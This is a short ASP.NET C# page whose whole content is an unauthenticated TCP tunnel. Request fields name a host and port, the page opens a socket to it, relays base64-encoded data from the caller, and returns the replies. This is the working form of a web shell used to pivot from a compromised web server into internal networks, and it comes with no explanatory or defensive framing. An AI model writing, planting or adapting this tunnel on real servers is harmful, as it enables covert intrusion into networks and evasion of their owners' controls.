<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string cid = Request.Form["c"];
  string blk = Request.Form["b"];
  if (Request.Form["op"] == "open") {
     TcpClient t = new TcpClient(Request.Form["h"], int.Parse(Request.Form["p"]));
     Application.Add(cid, t);
     return;
  }
  TcpClient tc = (TcpClient)Application[cid];
  NetworkStream ns = tc.GetStream();
  byte[] data = Convert.FromBase64String(blk);
  tc.Client.Send(data);
  byte[] buf = new byte[32768];
  int n = tc.Client.Available > 0 ? tc.Client.Receive(buf) : 0;
  Response.Write(Convert.ToBase64String(buf, 0, n));
}
</script>
